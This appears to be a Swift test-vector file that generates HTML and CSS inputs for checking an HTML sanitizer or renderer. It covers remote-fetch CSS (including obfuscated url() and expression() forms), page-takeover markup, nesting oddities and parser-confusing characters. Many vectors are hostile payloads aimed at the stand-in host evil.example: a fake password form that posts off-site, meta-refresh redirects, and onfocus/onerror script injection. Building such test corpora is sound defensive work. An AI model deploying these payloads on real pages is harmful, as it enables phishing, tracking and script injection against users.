extension HTMLVectors {
    /// Styles that fetch, cover or run something.
    public static let styles: [Vector] = numbered(
        "style",
        declarations.flatMap { declaration in
            [
                "<div style=\"\(declaration)\">x</div>", "<style>* { \(declaration) }</style>x",
                "<style>@import '\(declaration)';</style>x", "<font style='\(declaration)' color=red>x</font>",
                "<table><tr><td style=\"\(declaration)\">x", "<style><!-- b { \(declaration) } --></style><b>x",
            ]
        })

    private static let declarations = [
        "background:url(https://evil.example/x)", "background:\\75 rl(https://evil.example/x)",
        "background:u\\72l(https://evil.example/x)", "background:url(https://evil.example/x",
        "background:URL(  &quot;https://evil.example/x&quot;", "background:/**/u/**/rl(https://evil.example/x)",
        "--a:url(https://evil.example/x);background:var(--a)",
        "background:image-set(&quot;https://evil.example/x&quot; 1x)",
        "background:-webkit-image-set(url(https://evil.example/x) 1x)", "list-style:url(https://evil.example/x)",
        "cursor:url(https://evil.example/x),auto", "content:url(https://evil.example/x)",
        "border-image:url(//evil.example/x)",
        "filter:url(https://evil.example/x#f)", "mask:url(https://evil.example/x)",
        "clip-path:url(https://evil.example/x#c)",
        "shape-outside:url(https://evil.example/x)", "offset-path:url(https://evil.example/x)",
        "src:url(https://evil.example/f)",
        "width:expression(\(call))", "width:exp/**/ression(\(call))", "behavior:url(x.htc)",
        "-moz-binding:url(x.xml#x)",
        "background:url(javascript:\(call))", "background:&#117;rl(https://evil.example/x)",
        "background:cross-fade(url(//evil.example/a),red)",
        "@import url(https://evil.example/x)", "@import 'https://evil.example/x'",
        "@font-face{src:url(https://evil.example/f)}",
        "position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999", "}</style><img src=x:x onerror=\(call)>",
        "font-family:'\\';background:url(https://evil.example/x)'", "background:element(#x)",
        "color:red;\u{00}background:url(//evil.example)",
    ]

    /// What would take the page over: forms, frames, overlays, redirections.
    public static let pages: [Vector] = numbered(
        "page",
        [
            "<base href=https://evil.example/><a href=/x>x</a>", "<base target=_top>",
            "<link rel=stylesheet href=https://evil.example/x>",
            "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
            "<meta http-equiv=refresh content='0;javascript:\(call)'>",
            "<meta http-equiv=Set-Cookie content=a=b>", "<meta charset=utf-7>",
            "<meta http-equiv=content-security-policy content=x>",
            "<form action=https://evil.example/><input name=password type=password><button>Log in</button></form>",
            "<form><button formaction=javascript:\(call)>x</button></form>",
            "<button form=x formaction=//evil.example>x</button>",
            "<input type=image src=https://evil.example/x>", "<input autofocus onfocus=\(call)>",
            "<textarea name=x autofocus>y</textarea>",
            "<select autofocus onfocus=\(call)><option>x</select>", "<keygen autofocus onfocus=\(call)>",
            "<isindex prompt=password>",
            "<object data=https://evil.example/x><param name=x value=y>z</object>",
            "<embed src=https://evil.example/x>",
            "<iframe src=https://evil.example/ style=position:fixed></iframe>",
            "<frameset><frame src=https://evil.example/></frameset>",
            "<video autoplay src=https://evil.example/x poster=//evil.example/p></video>",
            "<audio src=https://evil.example/x controls>",
            "<picture><source srcset=https://evil.example/x><img src=x></picture>", "<dialog open>x</dialog>",
            "<details open ontoggle=\(call)><summary>x</details>",
            "<div id=main class=admin style=position:fixed>x</div>",
            "<a href=https://example.org id=x name=y target=_top ping=//evil.example download rel=opener>x</a>",
            "<img src=cid:picture@example.org usemap=#m><map name=m><area href=javascript:\(call) shape=default></map>",
            "<div contenteditable popover=auto>x</div>",
            "<button popovertarget=x>y</button><div popover id=x onbeforetoggle=\(call)>z</div>",
            "<body background=https://evil.example/x bgcolor=red link=red text=red>x",
            "<table background=https://evil.example/x><td background=//evil.example/y>x",
            "<label for=x>y</label><fieldset><legend>a</legend>b</fieldset>",
            "<marquee behavior=scroll onstart=\(call)>x</marquee>",
            "<p accesskey=x tabindex=1 hidden inert itemscope itemprop=x slot=y is=z nonce=q part=w>x</p>",
            "</div></div></div></body></html><p>x", "</td></tr></table><p>x", "<div><div><div>x",
            "<html manifest=x><head profile=y><body>x",
        ])

    /// Elements in places where the HTML standard moves, closes or drops them.
    public static let nesting: [Vector] = numbered(
        "nesting",
        outer.flatMap { first in
            inner.map { "<\(first)>a<\($0)>b</\($0.prefix { $0 != " " })>c</\(first.prefix { $0 != " " })>d" }
        }
            + outer.flatMap { first in
                ["b", "p", "td", "li"].map { "<b>0<\(first)>1<u><\($0)>2</b>3</\(first.prefix { $0 != " " })>4" }
            })

    private static let outer = [
        "p", "b", "a href=https://example.org", "h1", "ul", "ol", "li", "dl", "dt", "dd", "table", "tbody", "tr", "td",
        "th",
        "caption", "colgroup", "pre", "blockquote", "span", "font color=red", "center", "div", "code", "sub", "o:p",
        "section",
    ]

    private static let inner =
        outer + [
            "hr", "br", "img src=x:x alt=y", "col", "thead", "tfoot", "h2", "i", "em", "form", "button", "body", "head",
        ]

    /// Characters and references that parsers disagree about.
    public static let text: [Vector] = numbered(
        "text",
        characters.flatMap { character in
            [
                "a\(character)b", "<b>\(character)</b>c", "<pre>\(character)\n\nx",
                "<a href=https://example.org title='\(character)'>\(character)x</a>", "\(character)",
            ]
        })

    private static let characters = [
        "\u{00}", "\u{0B}", "\u{0C}", "\r", "\r\n", "\t", "\u{1B}", "\u{7F}", "\u{7F} w ", "\u{7F}\n", "\u{80}",
        "\u{85}", "\u{A0}", "\u{FEFF}",
        "\u{FFFD}",
        "\u{FFFE}", "\u{FFFF}", "\u{10FFFF}", "\u{2028}", "\u{202E}", "&#0;", "&#x0;", "&#11;", "&#12;", "&#13;",
        "&#13;&#10;", "&#128;",
        "&#150;", "&#159;", "&#xD800;", "&#xDFFF;", "&#xD83D;&#xDE00;", "&#x110000;", "&#99999999999;",
        "&#xFFFFFFFFFFFF;", "&#-1;",
        "&#x;", "&#;", "&;", "&", "&&", "&lt", "&lt;", "&amp;lt;", "&amp;amp;", "&AMP;", "&notit;", "&copy", "&copy2",
        "&nbsp", "&unknown;",
        "<", "<<", "< b>", "<>", "</>", "<b", "</b", "<!", "<!-", "<?", "</ b>", "<3", ">", "]]>", "-->", "\"", "'",
        "`", "&quot;", "&#39;",
        "&apos;", "\u{1F600}", "e\u{301}", "&hellip;&mdash;", "<![if !mso]>x<![endif]>", "<!--[if mso]>x<![endif]-->",
    ]
}
